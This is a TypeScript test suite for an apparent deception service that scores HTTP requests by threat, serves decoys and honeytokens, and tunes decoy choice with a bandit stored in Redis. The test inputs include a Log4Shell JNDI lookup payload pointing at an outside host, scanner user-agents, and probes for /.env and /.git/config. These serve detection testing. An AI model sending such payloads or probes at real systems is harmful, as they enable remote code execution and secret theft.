import { expect } from 'chai';
import { randomUUID } from 'node:crypto';
import { status as grpcStatus } from '@grpc/grpc-js';
import {
  CamouflageServiceClient,
  ThreatTier,
  type AssessRequest,
  type AssessResponse,
  type AssessStreamRequest,
  type AssessStreamResponse,
  type Decoy as ProtoDecoy,
  type Engagement,
  type GetBanditStatsResponse,
  type ListDecoysResponse,
  type RegisterDecoyResponse,
  type RecordOutcomeResponse,
} from '../../../gen/shieldx/camouflage/v1/camouflage';
import { ConfigError } from '../../../platform/config';
import { errorDetails } from '../../../platform/grpc-errors';
import { statusDetails } from '../../../platform/status-details';
import type { RunningService } from '../../../platform/server';
import { address, bearer, insecure, startTestService, testKeys, waitFor } from '../../../testing/harness';
import { exchange } from '../../../testing/streams';
import { metricSamples, scrapeMetrics } from '../../../platform/prometheus-text';
import { connectTestRedis, dumpPrefix } from '../../../testing/camouflage-kit';
import { RedisCommandLog } from '../../../testing/redis-command-log';
import { BUILT_IN_DECOYS } from '../domain/decoy-catalog';
import { DECISION_TTL_SECONDS_MAX } from '../store/engine';
import { createRedisStandIn } from '../../../dev/redis-stand-in';
import { camouflageService } from '../index';

const BROWSER_HEADERS = { accept: 'text/html,application/xhtml+xml', 'accept-language': 'en-GB,en;q=0.9', host: 'shop.example.com' };
const BROWSER_UA = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36';

function request(overrides: Partial<AssessRequest>): AssessRequest {
  return {
    clientIp: '198.51.100.20',
    method: 'GET',
    path: '/',
    query: '',
    headers: BROWSER_HEADERS,
    userAgent: BROWSER_UA,
    tlsFingerprint: '',
    sessionKey: `s-${randomUUID()}`,
    timestamp: new Date(),
    previousStatus: 0,
    policy: 0,
    ...overrides,
  };
}

type Call<T> = Promise<{ error: unknown; response?: T }>;

describe('camouflage service over gRPC', function () {
  this.timeout(60_000);
  const prefix = `test:camouflage:${randomUUID().slice(0, 8)}:`;
  let first: RunningService;
  let second: RunningService;
  let a: CamouflageServiceClient;
  let b: CamouflageServiceClient;

  const assess = (client: CamouflageServiceClient, req: AssessRequest): Call<AssessResponse> =>
    new Promise((resolve) => client.assess(req, bearer(testKeys.camouflage), (error, response) => resolve({ error, response })));
  const outcome = (client: CamouflageServiceClient, decisionId: string, interactions: number, dwellSeconds: number, extra: Partial<Engagement> = {}, idempotencyKey = '') =>
    new Promise<{ error: unknown; response?: RecordOutcomeResponse }>((resolve) =>
      client.recordOutcome(
        {
          decisionId,
          engagement: {
            interactions,
            dwell: { seconds: BigInt(dwellSeconds), nanos: 0 },
            honeytokenUsed: false,
            credentialsSubmitted: false,
            reachedRealAsset: false,
            ...extra,
          },
          idempotencyKey,
        },
        bearer(testKeys.camouflage),
        (error, response) => resolve({ error, response }),
      ),
    );
  const stats = (client: CamouflageServiceClient, tier: ThreatTier): Call<GetBanditStatsResponse> =>
    new Promise((resolve) => client.getBanditStats({ tier }, bearer(testKeys.camouflage), (error, response) => resolve({ error, response })));
  /** Registers a minimal attack-tier decoy `id` through `client`; resolves with the call's error (null when it succeeded). */
  const registerPanel = (client: CamouflageServiceClient, id: string) =>
    new Promise<unknown>((resolve) =>
      client.registerDecoy(
        { decoy: { id, name: 'Fake panel', kind: 'admin_login', tiers: [ThreatTier.THREAT_TIER_ATTACK], contentType: 'text/html', contentTemplate: '<form></form>', carriesHoneytoken: false, carriesCredentials: false, builtin: false, createdAt: undefined, status: 0, headers: {} }, idempotencyKey: '' },
        bearer(testKeys.admin),
        (error) => resolve(error),
      ),
    );
  /** A honeytoken some attack-tier decision of `client` served ('' if thirty decisions served none). */
  const mintedToken = async (client: CamouflageServiceClient) => {
    let token = '';
    for (let i = 0; i < 30 && token === ''; i++) {
      token = (await assess(client, request({ path: '/.env', userAgent: 'nikto/2.5.0', headers: {} }))).response!.honeytoken;
    }
    return token;
  };

  before(async () => {
    // Two replicas on one Redis, as in production.
    first = await startTestService(camouflageService, { CAMOUFLAGE_REDIS_PREFIX: prefix, MIGRATE_ON_START: 'false' });
    second = await startTestService(camouflageService, { CAMOUFLAGE_REDIS_PREFIX: prefix, MIGRATE_ON_START: 'false' });
    a = new CamouflageServiceClient(address(first), insecure);
    b = new CamouflageServiceClient(address(second), insecure);
  });
  after(async () => {
    a.close();
    b.close();
    await first.shutdown();
    await second.shutdown();
  });

  // A known scanner probing a secrets file is an attack; an ordinary browser page view is benign, without signals.
  it('scores scanner traffic high and ordinary browsing low, explaining why', async () => {
    const scanner = await assess(a, request({ path: '/.env', userAgent: 'sqlmap/1.7.2#stable (https://sqlmap.org)', headers: {} }));
    expect(scanner.error).to.equal(null);
    expect(scanner.response!.threatLevel).to.be.at.least(9);
    expect(scanner.response!.tier).to.equal(ThreatTier.THREAT_TIER_ATTACK);
    const names = scanner.response!.signals.map((s) => s.name);
    expect(names.some((n) => /scanner/i.test(n))).to.equal(true);
    expect(names.some((n) => /sensitive|path/i.test(n))).to.equal(true);
    expect(scanner.response!.signals.every((s) => s.points > 0)).to.equal(true);

    const browser = await assess(a, request({ path: '/products/42' }));
    expect(browser.response!.threatLevel).to.be.at.most(2);
    expect(browser.response!.tier).to.equal(ThreatTier.THREAT_TIER_BENIGN);
    // Tiers 0-2 never receive credentials or honeytokens.
    expect(browser.response!.honeytoken).to.equal('');
    expect(browser.response!.decoy!.carriesHoneytoken).to.equal(false);
    expect(browser.response!.decoy!.carriesCredentials).to.equal(false);
  });

  // A session that sweeps many paths with 404s climbs tiers as its pattern emerges.
  it('escalates a session as its pattern emerges', async () => {
    const sessionKey = `sweep-${randomUUID()}`;
    const start = Date.now();
    const levels: number[] = [];
    for (let i = 0; i < 40; i++) {
      const { response } = await assess(
        a,
        request({ sessionKey, path: `/page-${i}`, userAgent: 'python-requests/2.31', headers: {}, previousStatus: 404, timestamp: new Date(start + i * 50) }),
      );
      levels.push(response!.threatLevel);
    }
    expect(levels[levels.length - 1]!).to.be.greaterThan(levels[0]!);
    // From its first request to its fortieth it crosses at least one tier boundary (benign 0-2, suspicious 3-5, bot 6-8).
    expect(Math.floor(levels[levels.length - 1]! / 3)).to.be.greaterThan(Math.floor(levels[0]! / 3));
  });

  // A honeytoken served by one replica comes back in a request to the other: level 10, alert counted.
  it('detects a honeytoken minted earlier, across replicas', async () => {
    const token = await mintedToken(a);
    expect(token, 'some attack-tier decision served a honeytoken').to.not.equal('');
    const { response } = await assess(b, request({ path: '/api/login', headers: { ...BROWSER_HEADERS, authorization: `Bearer ${token}` } }));
    expect(response!.threatLevel).to.equal(10);
    expect(response!.honeytokenTriggered).to.equal(true);
    const metrics = await scrapeMetrics(second);
    expect(metricSamples(metrics, 'camouflage_honeytoken_alerts_total').some((sample) => sample.value >= 1)).to.equal(true);
    expect(metrics).not.to.include(token);
  });

  // HTTP header names are case-insensitive, so "X-Api-Version" and "x-api-version" are one field: a harmless twin
  // differing only in case neither hides the other's payload, scanner User-Agent or honeytoken, and the map's order
  // (which protobuf leaves undefined) does not change the verdict.
  it('scores every value of headers whose names differ only in case, in any order', async () => {
    const both = async (hostile: [string, string], harmless: [string, string], overrides: Partial<AssessRequest> = {}) => {
      const scored = [];
      for (const pair of [[hostile, harmless], [harmless, hostile]]) {
        const { error, response } = await assess(a, request({ headers: { ...BROWSER_HEADERS, ...Object.fromEntries(pair) }, ...overrides }));
        expect(error).to.equal(null);
        scored.push(response!);
      }
      expect(scored[1]!.threatLevel).to.equal(scored[0]!.threatLevel);
      expect(scored[1]!.signals).to.deep.equal(scored[0]!.signals);
      return scored[0]!;
    };
    const jndi = await both(['x-api-version', '${jndi:ldap://198.51.100.9/a}'], ['X-Api-Version', '1']);
    expect(jndi.signals.map((s) => s.name)).to.include('log4shell-jndi');
    expect(jndi.threatLevel).to.be.at.least(9);
    // No user_agent field: the header is the User-Agent.
    const scanner = await both(['user-agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)'], ['User-Agent', BROWSER_UA], { userAgent: '' });
    expect(scanner.signals.map((s) => s.name)).to.include('scanner-user-agent');

    const token = await mintedToken(a);
    expect(token, 'some attack-tier decision served a honeytoken').to.not.equal('');
    const replayed = await both(['authorization', `Bearer ${token}`], ['Authorization', 'Bearer 0f3c9a'], { path: '/api/login' });
    expect(replayed.honeytokenTriggered).to.equal(true);
    expect(replayed.threatLevel).to.equal(10);
  });

  // An outcome recorded on one replica is visible in the other's bandit statistics; a second outcome is refused.
  it('shares learning across replicas and records each outcome once', async () => {
    const { response } = await assess(a, request({ path: '/wp-admin/setup-config.php', userAgent: 'gobuster/3.6', headers: {} }));
    const tier = response!.tier;
    const before = (await stats(b, tier)).response!;
    const armBefore = before.arms.find((arm) => arm.decoyId === response!.decoy!.id);
    const recorded = await outcome(b, response!.decisionId, 12, 120);
    expect(recorded.error).to.equal(null);
    expect(recorded.response!.reward).to.be.within(0, 1);
    expect(recorded.response!.reward).to.be.greaterThan(0);
    const after = (await stats(a, tier)).response!;
    const armAfter = after.arms.find((arm) => arm.decoyId === response!.decoy!.id)!;
    // What the policy would choose now, over the tier's eligible arms.
    expect(after.arms.reduce((sum, arm) => sum + arm.selectionProbability, 0)).to.be.closeTo(1, 1e-9);
    expect(armAfter.rewardSum).to.be.closeTo((armBefore?.rewardSum ?? 0) + recorded.response!.reward, 1e-6);
    const duplicate = await outcome(a, response!.decisionId, 1, 1);
    expect(errorDetails(duplicate.error)).to.include({ code: grpcStatus.ALREADY_EXISTS, reason: 'OUTCOME_ALREADY_RECORDED' });
    const unchanged = (await stats(a, tier)).response!.arms.find((arm) => arm.decoyId === response!.decoy!.id)!;
    expect(unchanged.rewardSum).to.equal(armAfter.rewardSum);
  });

  // RecordOutcome costs two Redis round trips, as the server sees them (MONITOR on this test's key prefix): a GET of the
  // decision (its tier, decoy and honeytoken name the keys the write touches) and one script that checks, records, adds
  // the reward and returns the tier's counters the response's arm is computed from. A keyed retry (replay) and a refused
  // duplicate cost the same and change nothing; the arm answered is what GetBanditStats reports right after.
  it('records an outcome in two Redis round trips, its arm included', async () => {
    const redis = connectTestRedis();
    const log = await RedisCommandLog.open(redis, prefix);
    try {
      const scanner = () => request({ path: '/.env', userAgent: 'sqlmap/1.7.2#stable (https://sqlmap.org)', headers: {} });
      // One script call is EVAL on a connection's first use of the script (ioredis), EVALSHA after that.
      const names = (commands: string[][]) => commands.map((command) => (command[0] === 'EVAL' ? 'EVALSHA' : command[0]));
      const decided = (await assess(a, scanner())).response!;
      const key = `outcome-${randomUUID()}`;
      let recorded: Awaited<ReturnType<typeof outcome>> | undefined;
      const commands = await log.during(async () => {
        recorded = await outcome(b, decided.decisionId, 5, 60, {}, key);
      });
      expect(recorded!.error).to.equal(null);
      expect(names(commands)).to.deep.equal(['GET', 'EVALSHA']);
      const arm = (await stats(a, decided.tier)).response!.arms.find((candidate) => candidate.decoyId === decided.decoy!.id);
      expect(recorded!.response!.arm).to.deep.equal(arm);
      expect(arm!.rewardSum).to.be.greaterThan(0);

      const before = await dumpPrefix(redis, prefix);
      let replayed: Awaited<ReturnType<typeof outcome>> | undefined;
      const replayCommands = await log.during(async () => {
        replayed = await outcome(a, decided.decisionId, 5, 60, {}, key);
      });
      expect(replayed!.error).to.equal(null);
      expect(replayed!.response).to.deep.equal(recorded!.response);
      expect(names(replayCommands)).to.deep.equal(['GET', 'EVALSHA']);
      let refused: unknown;
      const refusedCommands = await log.during(async () => {
        refused = (await outcome(a, decided.decisionId, 5, 60)).error;
      });
      expect(errorDetails(refused)).to.include({ code: grpcStatus.ALREADY_EXISTS, reason: 'OUTCOME_ALREADY_RECORDED' });
      expect(names(refusedCommands)).to.deep.equal(['GET', 'EVALSHA']);
      const missingCommands = await log.during(async () => {
        refused = (await outcome(a, randomUUID(), 5, 60)).error;
      });
      expect(errorDetails(refused)).to.include({ code: grpcStatus.NOT_FOUND, reason: 'DECISION_NOT_FOUND' });
      expect(names(missingCommands)).to.deep.equal(['GET']);
      expect(await dumpPrefix(redis, prefix)).to.deep.equal(before);
    } finally {
      await log.close();
      await redis.quit();
    }
  });

  // An outcome is credited to the arm its decision recorded, and answered with that arm, even on a replica whose catalog
  // predates the decoy (registered through the other replica after both loaded theirs). A decoy gone from Redis since
  // its decision still has the outcome recorded and counted on its arm, without an error; no arm is answered then.
  it('answers an outcome, and bandit stats, with the arm of a decoy newer than the replica catalog', async () => {
    const ownPrefix = `${prefix}late-decoy:`;
    const started: RunningService[] = [];
    const clients: CamouflageServiceClient[] = [];
    const replica = async () => {
      started.push(await startTestService(camouflageService, { CAMOUFLAGE_REDIS_PREFIX: ownPrefix, MIGRATE_ON_START: 'false' }));
      clients.push(new CamouflageServiceClient(address(started[started.length - 1]!), insecure));
      return clients[clients.length - 1]!;
    };
    const redis = connectTestRedis();
    try {
      const [deciding, recording, reporting] = [await replica(), await replica(), await replica()];
      const id = `late-${randomUUID().slice(0, 8)}`;
      expect(await registerPanel(deciding, id)).to.equal(null);
      // GetBanditStats on a replica that loaded its catalog before the registration lists the new arm all the same.
      const reported = await stats(reporting, ThreatTier.THREAT_TIER_ATTACK);
      expect(reported.error).to.equal(null);
      expect(reported.response!.arms.map((candidate) => candidate.decoyId)).to.include(id);
      // Without rewards UCB1 plays the least-pulled arms first: every arm of the tier once per round of ten.
      const served: AssessResponse[] = [];
      for (let i = 0; i < 60 && served.length < 2; i++) {
        const decided = (await assess(deciding, request({ path: '/.env', userAgent: 'sqlmap/1.7.2#stable (https://sqlmap.org)', headers: {} }))).response!;
        if (decided.decoy!.id === id) served.push(decided);
      }
      expect(served, `decoy ${id} served twice`).to.have.length(2);

      const recorded = await outcome(recording, served[0]!.decisionId, 5, 60);
      expect(recorded.error).to.equal(null);
      const arm = (await stats(deciding, ThreatTier.THREAT_TIER_ATTACK)).response!.arms.find((candidate) => candidate.decoyId === id);
      expect(recorded.response!.arm).to.deep.equal(arm);
      expect(arm!.rewardSum).to.be.closeTo(recorded.response!.reward, 1e-6).and.greaterThan(0);

      // Gone: removed from Redis (as a restore from an older backup would), seen by a replica started after that.
      await redis.hdel(`${ownPrefix}decoys`, id);
      await redis.hincrby(`${ownPrefix}decoys:meta`, 'version', 1);
      const gone = await outcome(await replica(), served[1]!.decisionId, 5, 60);
      expect(gone.error).to.equal(null);
      expect(gone.response!.reward).to.equal(recorded.response!.reward);
      expect(gone.response!.arm).to.equal(undefined);
      expect(await redis.hget(`${ownPrefix}bandit:attack`, `${id}:o`)).to.equal('2');
    } finally {
      for (const client of clients) client.close();
      for (const service of started) await service.shutdown();
      await redis.quit();
    }
  });

  // With an idempotency key, a client that lost RecordOutcome's reply retries safely: the same engagement replays the
  // reward (no OUTCOME_ALREADY_RECORDED, nothing added twice), another one is FAILED_PRECONDITION IDEMPOTENCY_KEY_REUSED,
  // and a malformed key is INVALID_ARGUMENT naming idempotency_key.
  it('replays a retried outcome under its idempotency key', async () => {
    const { response } = await assess(a, request({ path: '/.git/config', userAgent: 'nikto/2.5', headers: {} }));
    const key = `outcome-${randomUUID()}`;
    const bad = await outcome(a, response!.decisionId, 3, 30, {}, 'has space');
    expect(errorDetails(bad.error)?.fieldViolations[0]?.field).to.equal('idempotency_key');
    const first = await outcome(a, response!.decisionId, 3, 30, {}, key);
    expect(first.error).to.equal(null);
    const armOf = async () => (await stats(b, response!.tier)).response!.arms.find((arm) => arm.decoyId === response!.decoy!.id)!;
    const afterFirst = await armOf();
    const retried = await outcome(b, response!.decisionId, 3, 30, {}, key);
    expect(retried.error).to.equal(null);
    expect(retried.response!.reward).to.equal(first.response!.reward);
    expect((await armOf()).rewardSum).to.equal(afterFirst.rewardSum);
    expect(errorDetails((await outcome(a, response!.decisionId, 4, 30, {}, key)).error)).to.include({
      code: grpcStatus.FAILED_PRECONDITION,
      reason: 'IDEMPOTENCY_KEY_REUSED',
    });
    expect(errorDetails((await outcome(a, response!.decisionId, 3, 30)).error)).to.include({ code: grpcStatus.ALREADY_EXISTS, reason: 'OUTCOME_ALREADY_RECORDED' });
  });

  // The same for RegisterDecoy: a retry under the key replays the registration, another decoy under it is refused.
  it('replays a retried decoy registration under its idempotency key', async () => {
    const id = `idem-${randomUUID().slice(0, 8)}`;
    const decoy = { id, name: 'Fake panel', kind: 'admin_login', tiers: [ThreatTier.THREAT_TIER_ATTACK], contentType: 'text/html', contentTemplate: '<form></form>', carriesHoneytoken: false, carriesCredentials: false, builtin: false, createdAt: undefined, status: 0, headers: {} };
    const register = (d: typeof decoy, idempotencyKey: string) =>
      new Promise<unknown>((resolve) => a.registerDecoy({ decoy: d, idempotencyKey }, bearer(testKeys.admin), (error) => resolve(error)));
    const key = `register-${randomUUID()}`;
    expect(await register(decoy, key)).to.equal(null);
    expect(await register(decoy, key)).to.equal(null);
    const reused = errorDetails(await register({ ...decoy, name: 'Another panel' }, key));
    expect(reused).to.include({ code: grpcStatus.FAILED_PRECONDITION, reason: 'IDEMPOTENCY_KEY_REUSED' });
    // On the wire the key's field has its proto name, as in credits and shadow.
    expect(reused?.metadata).to.include({ field: 'idempotency_key', idempotency_key: key });
    expect(reused?.fieldViolations.map((v) => v.field)).to.deep.equal(['idempotency_key']);
    expect(errorDetails(await register(decoy, ''))).to.include({ code: grpcStatus.ALREADY_EXISTS, reason: 'DECOY_ALREADY_EXISTS' });
  });

  // Engagement that ends with the attacker on a real asset means the decoy failed: reward 0, however engaged.
  it('rewards nothing when the attacker reached a real asset', async () => {
    const { response } = await assess(a, request({ path: '/wp-login.php', userAgent: 'gobuster/3.6', headers: {} }));
    const failed = await outcome(a, response!.decisionId, 12, 120, { credentialsSubmitted: true, reachedRealAsset: true });
    expect(failed.error).to.equal(null);
    expect(failed.response!.reward).to.equal(0);
    const { response: other } = await assess(a, request({ path: '/wp-login.php', userAgent: 'gobuster/3.6', headers: {} }));
    const engaged = await outcome(a, other!.decisionId, 12, 120, { credentialsSubmitted: true });
    expect(engaged.response!.reward).to.be.greaterThan(0);
  });

  // Bad input on every RPC: a clear INVALID_ARGUMENT / NOT_FOUND and no state change.
  it('rejects bad input on every RPC', async () => {
    expect(errorDetails((await assess(a, request({ clientIp: 'not-an-ip' }))).error)?.code).to.equal(grpcStatus.INVALID_ARGUMENT);
    expect(errorDetails((await assess(a, request({ path: 'x'.repeat(10_000) }))).error)?.code).to.equal(grpcStatus.INVALID_ARGUMENT);
    expect(errorDetails((await outcome(a, 'no-such-decision', 1, 1)).error)).to.deep.include({ code: grpcStatus.INVALID_ARGUMENT, reason: 'INVALID_ARGUMENT' });
    expect(errorDetails((await outcome(a, 'no-such-decision', 1, 1)).error)?.fieldViolations[0]?.field).to.equal('decision_id');
    const { response } = await assess(a, request({ path: '/.git/config', userAgent: 'nuclei', headers: {} }));
    expect(errorDetails((await outcome(a, response!.decisionId, -1, 1)).error)?.code).to.equal(grpcStatus.INVALID_ARGUMENT);
    const badDwell = errorDetails((await outcome(a, response!.decisionId, 1, 100_000)).error);
    expect(badDwell?.code).to.equal(grpcStatus.INVALID_ARGUMENT);
    expect(badDwell?.fieldViolations[0]?.field).to.equal('engagement.dwell');
    expect(errorDetails((await assess(a, request({ timestamp: new Date(-1) }))).error)?.fieldViolations[0]?.field).to.equal('timestamp');
    // The bad outcome did not consume the decision: a valid one still records.
    expect((await outcome(a, response!.decisionId, 1, 1)).error).to.equal(null);
    expect(errorDetails((await stats(a, ThreatTier.THREAT_TIER_UNSPECIFIED)).error)?.fieldViolations[0]?.field).to.equal('tier');
    // Partial decoys (the generated encoder needs the new fields present, as the decoder always provides them).
    const register = (decoy: object) =>
      new Promise<unknown>((resolve) => a.registerDecoy({ decoy: { status: 0, headers: {}, ...decoy } as never, idempotencyKey: '' }, bearer(testKeys.admin), (error) => resolve(error)));
    expect(errorDetails(await register({ id: 'x', kind: 'banner', tiers: [ThreatTier.THREAT_TIER_ATTACK], contentTemplate: 'hi' }))?.code).to.equal(
      grpcStatus.INVALID_ARGUMENT,
    );
    expect(errorDetails(await register({ id: 'x', kind: 'banner', tiers: [ThreatTier.THREAT_TIER_ATTACK], contentTemplate: 'hi' }))?.fieldViolations[0]?.field).to.equal(
      'decoy.id',
    );
    expect(errorDetails(await register({ id: 'no-template', kind: 'admin_login', tiers: [ThreatTier.THREAT_TIER_ATTACK], contentTemplate: '' }))?.fieldViolations[0]?.field).to.equal(
      'decoy.content_template',
    );
    // A decoy carrying a honeytoken may not serve the benign tier.
    const benignToken = await register({
      id: `leaky-${randomUUID().slice(0, 8)}`,
      kind: 'config_file',
      tiers: [ThreatTier.THREAT_TIER_BENIGN],
      carriesHoneytoken: true,
      contentTemplate: 'KEY={{honeytoken}}',
    });
    expect(errorDetails(benignToken)?.code).to.equal(grpcStatus.INVALID_ARGUMENT);
    // RegisterDecoy needs the admin scope.
    const denied = await new Promise<unknown>((resolve) =>
      a.registerDecoy({ decoy: undefined, idempotencyKey: '' }, bearer(testKeys.camouflage), (error) => resolve(error)),
    );
    expect(errorDetails(denied)?.code).to.equal(grpcStatus.PERMISSION_DENIED);

    // Every validation branch of the handlers: INVALID_ARGUMENT (or NOT_FOUND for an unknown decision) and no state change.
    const redis = connectTestRedis();
    try {
      const before = await dumpPrefix(redis, prefix);
      const invalid = (error: unknown, field: string) => expect(errorDetails(error), field).to.deep.include({ code: grpcStatus.INVALID_ARGUMENT, reason: 'INVALID_ARGUMENT' });
      const badPolicy = (await assess(a, request({ path: '/.env', userAgent: 'nuclei', headers: {}, policy: 99 as AssessRequest['policy'] }))).error;
      invalid(badPolicy, 'policy');
      expect(errorDetails(badPolicy)?.fieldViolations[0]?.field).to.equal('policy');
      const noEngagement = await new Promise<unknown>((resolve) =>
        a.recordOutcome({ decisionId: response!.decisionId, engagement: undefined, idempotencyKey: '' }, bearer(testKeys.camouflage), (error) => resolve(error)),
      );
      invalid(noEngagement, 'engagement');
      expect(errorDetails(noEngagement)?.fieldViolations[0]?.field).to.equal('engagement');
      expect(errorDetails((await outcome(a, randomUUID(), 1, 1)).error)).to.deep.include({ code: grpcStatus.NOT_FOUND, reason: 'DECISION_NOT_FOUND' });
      const list = (req: { pageSize: number; tier: ThreatTier }) =>
        new Promise<unknown>((resolve) => a.listDecoys({ pageToken: '', ...req }, bearer(testKeys.camouflage), (error) => resolve(error)));
      const negativePage = await list({ pageSize: -1, tier: ThreatTier.THREAT_TIER_UNSPECIFIED });
      invalid(negativePage, 'page_size');
      expect(errorDetails(negativePage)?.fieldViolations[0]?.field).to.equal('page_size');
      const unknownListTier = await list({ pageSize: 3, tier: 99 as ThreatTier });
      invalid(unknownListTier, 'list tier');
      expect(errorDetails(unknownListTier)?.fieldViolations[0]?.field).to.equal('tier');
      const noDecoy = await new Promise<unknown>((resolve) => a.registerDecoy({ decoy: undefined, idempotencyKey: '' }, bearer(testKeys.admin), (error) => resolve(error)));
      invalid(noDecoy, 'decoy');
      expect(errorDetails(noDecoy)?.fieldViolations[0]?.field).to.equal('decoy');
      const unknownStatsTier = (await stats(a, 99 as ThreatTier)).error;
      invalid(unknownStatsTier, 'stats tier');
      expect(errorDetails(unknownStatsTier)?.fieldViolations[0]?.field).to.equal('tier');
      expect(await dumpPrefix(redis, prefix)).to.deep.equal(before);
    } finally {
      await redis.quit();
    }
  });

  /** Sends `items` on one AssessStream call (half-closing when `halfClose`), collects answers until the call ends. */
  const assessStream = (client: CamouflageServiceClient, items: AssessStreamRequest[], key = testKeys.camouflage, halfClose = true) =>
    exchange<AssessStreamRequest, AssessStreamResponse>(client.assessStream(bearer(key)), items, halfClose);

  // One stream, many assessments: each answered once by its id with what Assess would say; bad items get their
  // own INVALID_ARGUMENT and the stream goes on; the call ends OK after the client half-closes.
  it('AssessStream answers every request by id and keeps going past bad items', async () => {
    const items: AssessStreamRequest[] = [];
    for (let i = 0; i < 300; i++) {
      const scanner = i % 3 === 0;
      items.push({
        requestId: `r-${i}`,
        request: scanner ? request({ path: '/.env', userAgent: 'sqlmap/1.7.2#stable (https://sqlmap.org)', headers: {} }) : request({}),
      });
    }
    items.push({ requestId: 'bad-ip', request: request({ clientIp: 'not-an-ip' }) });
    items.push({ requestId: 'no-request', request: undefined });
    items.push({ requestId: '', request: request({}) });
    items.push({ requestId: 'x'.repeat(129), request: request({}) });
    const { answers, ended } = assessStream(a, items);
    expect((await ended).error).to.equal(null);
    expect(answers).to.have.length(items.length);
    const byId = new Map(answers.map((m) => [m.requestId, m]));
    for (let i = 0; i < 300; i++) {
      const result = byId.get(`r-${i}`)!.result!;
      expect(result.$case, `r-${i}`).to.equal('response');
      const response = (result as { value: AssessResponse }).value;
      expect(response.decisionId).to.match(/^[0-9a-f-]{36}$/);
      if (i % 3 === 0) expect(response.tier).to.equal(ThreatTier.THREAT_TIER_ATTACK);
      else expect(response.tier).to.equal(ThreatTier.THREAT_TIER_BENIGN);
    }
    const failed = (id: string) => {
      const result = answers.find((m) => m.requestId === id)!.result!;
      expect(result.$case, id).to.equal('error');
      return statusDetails((result as { value: import('../../../gen/google/rpc/status').Status }).value);
    };
    expect(failed('bad-ip')).to.include({ code: grpcStatus.INVALID_ARGUMENT, reason: 'INVALID_ARGUMENT' });
    expect(failed('no-request').fieldViolations[0]!.field).to.equal('request');
    expect(failed('').fieldViolations[0]!.field).to.equal('request_id');
    expect(failed('x'.repeat(129)).fieldViolations[0]!.field).to.equal('request_id');
    // Decisions made on the stream are real: an outcome can be recorded for one.
    const decisionId = ((byId.get('r-0')!.result as { value: AssessResponse }).value).decisionId;
    expect((await outcome(b, decisionId, 2, 5)).error).to.equal(null);
  });

  // The stream needs the same scope as Assess; without a key it is refused before any item is read.
  it('AssessStream refuses a missing key and a key without the assess scope', async () => {
    const anonymous = a.assessStream();
    const refused = await new Promise<unknown>((resolve) => {
      anonymous.on('error', resolve);
      anonymous.on('data', () => undefined);
      anonymous.write({ requestId: 'r', request: request({}) });
      anonymous.end();
    });
    expect(errorDetails(refused)?.code).to.equal(grpcStatus.UNAUTHENTICATED);
    const { answers, ended } = assessStream(a, [{ requestId: 'r', request: request({}) }], testKeys.creditsReader);
    expect(errorDetails((await ended).error)?.code).to.equal(grpcStatus.PERMISSION_DENIED);
    expect(answers).to.deep.equal([]);
  });

  // A long-lived stream does not hold up a shutdown: it ends UNAVAILABLE (SERVER_SHUTTING_DOWN) after its answers.
  it('AssessStream ends cleanly when the server shuts down', async () => {
    const third = await startTestService(camouflageService, { CAMOUFLAGE_REDIS_PREFIX: prefix, MIGRATE_ON_START: 'false' });
    const client = new CamouflageServiceClient(address(third), insecure);
    try {
      const items = Array.from({ length: 50 }, (_, i) => ({ requestId: `s-${i}`, request: request({}) }));
      const { answers, ended } = assessStream(client, items, testKeys.camouflage, false);
      await waitFor('every streamed item answered', async () => (answers.length === items.length ? true : undefined), 5_000, 20);
      const shutdown = third.shutdown();
      const details = errorDetails((await ended).error);
      expect(details).to.include({ code: grpcStatus.UNAVAILABLE, reason: 'SERVER_SHUTTING_DOWN' });
      await shutdown;
      expect(new Set(answers.map((m) => m.requestId)).size).to.equal(items.length);
    } finally {
      client.close();
      await third.shutdown().catch(() => undefined);
    }
  });

  // Shutdown with items in flight: the stream stops reading, answers every item it had read (each exactly once),
  // then ends UNAVAILABLE / SERVER_SHUTTING_DOWN; items sent after shutdown began are not read, so never answered
  // and safe to resend elsewhere. The items are held in flight by blocking the service's own Redis connection.
  it('AssessStream answers the items in flight when shutdown begins, then ends UNAVAILABLE', async () => {
    const third = await startTestService(camouflageService, { CAMOUFLAGE_REDIS_PREFIX: prefix, MIGRATE_ON_START: 'false' });
    const client = new CamouflageServiceClient(address(third), insecure);
    const redis = connectTestRedis();
    const gate = `${prefix}shutdown-gate:${randomUUID()}`;
    try {
      const { call, answers, ended } = assessStream(client, [{ requestId: 'warm', request: request({}) }], testKeys.camouflage, false);
      await waitFor('the warm-up item answered', async () => (answers.length === 1 ? true : undefined), 5_000, 10);

      // Redis runs one connection's commands in order: while a BLPOP on the service's connection waits, every
      // Assess script queues behind it. CLIENT LIST shows when the BLPOP is really blocking.
      const serviceClientId = await third.redis.client('ID');
      const blocked = third.redis.blpop(gate, 20);
      await waitFor(
        'the service connection blocked',
        async () => ((await redis.call('CLIENT', 'LIST', 'ID', String(serviceClientId))) as string).includes('cmd=blpop') || undefined,
        5_000,
        10,
      );
      const inFlight = Array.from({ length: 100 }, (_, i) => `f-${i}`);
      for (const requestId of inFlight) call.write({ requestId, request: request({}) });
      // Answered without Redis; items are read in order, so its answer proves every f-* item was read.
      call.write({ requestId: 'probe', request: undefined });
      await waitFor('the probe answered', async () => (answers.some((m) => m.requestId === 'probe') ? true : undefined), 5_000, 10);
      expect(answers.map((m) => m.requestId)).to.deep.equal(['warm', 'probe']);

      // SHUTDOWN_DELAY_MS is 0 in tests: shutdown() aborts the stream's shutdown signal before it returns.
      const shutdown = third.shutdown();
      const late = ['late-0', 'late-1', 'late-2'];
      for (const requestId of late) call.write({ requestId, request: request({}) });
      await redis.lpush(gate, 'open');
      expect(await blocked).to.deep.equal([gate, 'open']);

      expect(errorDetails((await ended).error)).to.include({ code: grpcStatus.UNAVAILABLE, reason: 'SERVER_SHUTTING_DOWN' });
      await shutdown;
      const counts = new Map<string, number>();
      for (const m of answers) counts.set(m.requestId, (counts.get(m.requestId) ?? 0) + 1);
      for (const requestId of ['warm', 'probe', ...inFlight]) expect(counts.get(requestId), requestId).to.equal(1);
      for (const requestId of late) expect(counts.has(requestId), requestId).to.equal(false);
      expect(answers).to.have.length(inFlight.length + 2);
      for (const m of answers.filter((a) => a.requestId.startsWith('f-'))) expect(m.result?.$case, m.requestId).to.equal('response');
    } finally {
      client.close();
      await third.shutdown().catch(() => undefined);
      await redis.del(gate);
      await redis.quit();
    }
  });

  // Registered decoys are listed (paginated) by every replica, filtered by tier, with the HTTP status and headers a
